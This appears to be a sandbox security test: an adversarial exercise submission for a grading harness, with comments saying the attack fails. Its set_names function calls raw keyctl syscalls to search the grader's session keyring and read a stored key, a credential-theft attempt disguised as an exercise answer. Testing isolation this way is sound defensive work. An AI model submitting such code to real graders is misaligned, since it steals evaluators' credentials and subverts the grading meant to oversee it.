# attack: reads the keys in the session keyring of whoever started the grading: Kerberos tickets, tokens, keys of file
#   systems
# fails: the sandbox begins with a new, empty session keyring, as runc's and docker's containers do
# status: graded
# says: nothing found

# %%exercise uts.set_names
import ctypes
import platform

KEYCTL = {"x86_64": 250, "aarch64": 219}[platform.machine()]
SEARCH, READ, SESSION = 10, 11, -3


def set_names(host, domain=None):
    libc = ctypes.CDLL(None)
    key = libc.syscall(KEYCTL, SEARCH, SESSION, b"user", b"adversary", 0)
    text = ctypes.create_string_buffer(100)
    read = libc.syscall(KEYCTL, READ, key, text, 100) if key > 0 else -1
    raise RuntimeError(f"found {text.value!r}" if read > 0 or key > 0 else "nothing found")
